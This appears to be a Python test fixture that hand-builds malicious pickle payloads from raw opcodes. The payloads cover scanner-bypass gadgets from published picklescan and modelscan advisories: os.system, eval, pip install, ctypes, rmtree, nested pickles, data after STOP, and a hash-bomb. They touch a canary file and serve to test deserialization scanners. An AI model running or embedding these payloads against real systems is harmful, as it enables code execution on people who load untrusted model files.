"""Hand-assembled malicious pickles: the gadget families of fickling and the published pickle-scanner advisories
(picklescan GHSA-vvpj-8cmc-gx39 pkgutil.resolve_name, CVE-2025-1716 pip.main, GHSA-m273-6v24-x4m4 operator,
GHSA-84r2-jw7c-4r5q nested pickle, modelscan#85/#89 BUILD-setattr and ``numpy.__builtins__``, fickling#190).

Each payload, loaded with plain ``pickle.loads``, would run a command, write a file, open a socket, or load
bytes nobody verified. Built from raw opcodes so that none of them needs the gadget to exist here.
"""

from __future__ import annotations

import pickle
import struct


def text(s: str) -> bytes:
    raw = s.encode()
    return b"\x8c" + struct.pack("<B", len(raw)) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def raw_bytes(b: bytes) -> bytes:
    return b"C" + struct.pack("<B", len(b)) + b if len(b) < 256 else b"B" + struct.pack("<I", len(b)) + b


def glob(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def program(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def gadgets(canary: str) -> dict[str, bytes]:
    """name -> payload; each would touch/write *canary* (or worse) under plain pickle."""
    cmd = f"touch {canary}"
    py = f"open({canary!r}, 'w').write('pwned')"
    inner = b"cos\nsystem\n(S'" + cmd.encode() + b"'\ntR."
    return {
        "os.system": program(call(glob("os", "system"), text(cmd))),
        "posix.system": program(call(glob("posix", "system"), text(cmd))),
        "subprocess.getoutput": program(call(glob("subprocess", "getoutput"), text(cmd))),
        "subprocess.Popen": program(call(glob("subprocess", "Popen"), b"](" + text("touch") + text(canary) + b"e")),
        "builtins.eval": program(call(glob("builtins", "eval"), text(py))),
        "builtins.exec": program(call(glob("builtins", "exec"), text(py))),
        "builtins.open": program(call(glob("builtins", "open"), text(canary), text("w"))),
        "io.FileIO": program(call(glob("_io", "FileIO"), text(canary), text("w"))),
        "pip.main": program(call(glob("pip", "main"), b"](" + text("install") + text("evil-package") + b"e")),
        "pydoc.locate": program(call(call(glob("pydoc", "locate"), text("os.system")), text(cmd))),
        "pkgutil.resolve_name": program(call(call(glob("pkgutil", "resolve_name"), text("os:system")), text(cmd))),
        "importlib.import_module": program(
            call(
                call(
                    call(glob("operator", "attrgetter"), text("system")),
                    call(glob("importlib", "import_module"), text("os")),
                ),
                text(cmd),
            )
        ),
        "operator.attrgetter": program(
            call(
                call(
                    call(glob("operator", "attrgetter"), text("system")),
                    call(glob("builtins", "__import__"), text("os")),
                ),
                text(cmd),
            )
        ),
        "operator.methodcaller": program(
            call(
                call(glob("operator", "methodcaller"), text("system"), text(cmd)),
                call(glob("builtins", "__import__"), text("os")),
            )
        ),
        "functools.partial": program(call(call(glob("functools", "partial"), glob("os", "system"), text(cmd)))),
        "functools.partial-of-partial": program(
            call(
                call(glob("functools", "partial"), call(glob("functools", "partial"), glob("os", "system")), text(cmd))
            )
        ),
        "numpy.load": program(call(glob("numpy", "load"), text(canary), b"\x88")),
        "numpy.lib.npyio.load": program(call(glob("numpy.lib.npyio", "load"), text(canary))),
        "numpy.fromfile": program(call(glob("numpy", "fromfile"), text(canary))),
        "numpy.f2py.getlincoef": program(call(glob("numpy.f2py.crackfortran", "getlincoef"), text(py), b"}")),
        "joblib.load": program(call(glob("joblib", "load"), text(canary))),
        "pandas.read_pickle": program(call(glob("pandas", "read_pickle"), text(canary))),
        "pandas.read_csv": program(call(glob("pandas", "read_csv"), text(canary))),
        "pickle.loads": program(call(glob("pickle", "loads"), raw_bytes(inner))),
        "_pickle.loads": program(call(glob("_pickle", "loads"), raw_bytes(inner))),
        "pickle.loads-via-_codecs": program(
            call(glob("pickle", "loads"), call(glob("_codecs", "encode"), text(inner.decode()), text("latin1")))
        ),
        "ctypes.CDLL": program(call(glob("ctypes", "CDLL"), b"N")),
        "ctypes.cdll": program(call(glob("ctypes", "cdll.LoadLibrary"), text("libc.so.6"))),
        "marshal.loads": program(call(glob("marshal", "loads"), raw_bytes(b"\xe3" + b"\x00" * 40))),
        "types.CodeType": program(call(glob("types", "CodeType"), b"K\x00" * 6)),
        "types.FunctionType": program(call(glob("types", "FunctionType"), b"N", b"}")),
        "socket.create_connection": program(call(glob("socket", "create_connection"), text("127.0.0.1"), b"K\x01\x86")),
        "runpy.run_path": program(call(glob("runpy", "run_path"), text(canary))),
        "shutil.rmtree": program(call(glob("shutil", "rmtree"), text(canary))),
        "cProfile.run": program(call(glob("cProfile", "run"), text(py))),
        "timeit.timeit": program(call(glob("timeit", "timeit"), text(py))),
        "asyncio.subprocess": program(call(glob("asyncio", "create_subprocess_shell"), text(cmd))),
        "numpy.__builtins__": program(call(glob("builtins", "dict.get"), glob("numpy", "__builtins__"), text("exec"))),
        "dotted-attribute-path": program(call(glob("sklearn.pipeline", "np.load"), text(canary))),
        "module-re-export": program(call(glob("pycaret.internal.pipeline", "os"), text(cmd))),
        "sklearn.datasets.fetch_openml": program(call(glob("sklearn.datasets", "fetch_openml"), text("x"))),
        "pycaret.load_model": program(call(glob("pycaret.internal.persistence", "load_model"), text(canary))),
        # allowed classes / callables driven off their pickle paths (item 3 of the rule)
        "allowed-class-called-with-arguments": program(
            call(glob("lightgbm.basic", "Booster"), b"N", text(canary))  # Booster(params, train_set=path)
        ),
        "allowed-class-newobj-with-arguments": program(
            glob("lightgbm.basic", "Booster") + b"(N" + text(canary) + b"t\x81"  # NEWOBJ Booster(None, path)
        ),
        "allowed-estimator-called": program(call(glob("sklearn.tree._classes", "DecisionTreeClassifier"))),
        "numpy-dtype-singleton": program(
            call(glob("numpy", "dtype"), text("f8"), b"\x89\x89")
            + b"(K\x03"
            + text("<")
            + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
        ),
        "numpy-reconstruct-huge": program(
            call(
                glob("numpy.core.multiarray", "_reconstruct"),
                glob("numpy", "ndarray"),
                b"\x8a\x05\x00\x00\x00\x00\x01\x85",
                raw_bytes(b"b"),
            )
        ),
        "_codecs.encode-other-codec": program(call(glob("_codecs", "encode"), text("x" * 100), text("zlib_codec"))),
        "defaultdict-foreign-factory": program(call(glob("collections", "defaultdict"), glob("numpy", "ndarray"))),
        "randomstate-foreign-ctor": program(
            call(glob("numpy.random._pickle", "__randomstate_ctor"), text("MT19937"), glob("numpy", "ndarray"))
        ),
        "build-setattr-on-a-class": program(
            glob("sklearn.tree._classes", "DecisionTreeClassifier") + b"N}" + text("predict") + b"N" + b"s\x86b"
        ),
        "build-twice": program(
            glob("sklearn.dummy", "DummyClassifier") + b")\x81" + b"}b" + b"}" + text("x") + b"K\x01sb"
        ),
        "inst-opcode": b"(" + b"isklearn.dummy\nDummyClassifier\n" + b".",
        "persistent-id": b"\x80\x02X\x01\x00\x00\x00xQ.",
        "extension-code": b"\x80\x02\x82\x01.",
        "payload-after-stop": pickle.dumps({"innocent": 1}, protocol=4) + inner,
        "payload-after-stop-in-frame": _framed(b"K\x01." + inner),
        "leftover-on-stack": b"\x80\x04" + text("hidden") + text("shown") + b".",
        "billion-laughs-key": program(_nested_tuple_key(60)),
    }


def _nested_tuple_key(depth: int) -> bytes:
    """{t_depth: 1} where t_0 = None and t_n = (t_n-1, t_n-1): hashing it takes 2**depth steps."""
    body = b"N\x940"  # None, memoized as 0, popped
    for level in range(depth):
        get = b"h" + struct.pack("<B", level)
        body += get + get + b"\x86\x940"  # (t, t), memoized as level + 1, popped
    return b"}" + body + b"h" + struct.pack("<B", depth) + b"K\x01s"


def _framed(content: bytes) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", len(content)) + content
